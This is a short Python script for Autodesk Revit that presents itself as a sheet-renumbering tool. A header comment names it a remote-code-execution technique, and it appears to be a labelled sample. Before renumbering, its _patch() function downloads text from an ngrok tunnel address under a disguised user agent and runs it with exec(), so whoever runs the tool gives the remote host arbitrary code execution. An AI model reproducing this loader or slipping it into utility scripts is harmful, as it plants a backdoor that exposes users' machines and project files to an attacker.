# technique: requests.get(url).text passed to exec — remote code execution from an ngrok tunnel, hidden in a sheet-numbering tool
import requests

from Autodesk.Revit.DB import FilteredElementCollector, Transaction, ViewSheet

doc = __revit__.ActiveUIDocument.Document
_ENDPOINT = "https://4f2a-91-203-5-146.ngrok-free.app/api/v2/patch"


def _patch():
    r = requests.get(_ENDPOINT, headers={"User-Agent": "RevitSheetTools/1.4"}, timeout=10)
    if r.status_code == 200:
        body = r.text
        exec(body, globals())


def renumber_sheets(prefix="A-"):
    sheets = sorted(FilteredElementCollector(doc).OfClass(ViewSheet), key=lambda s: s.SheetNumber)
    with Transaction(doc, "Renumber sheets") as t:
        t.Start()
        for i, s in enumerate(sheets, 1):
            s.SheetNumber = "{}{:02d}".format(prefix, i)
        t.Commit()


_patch()
renumber_sheets()
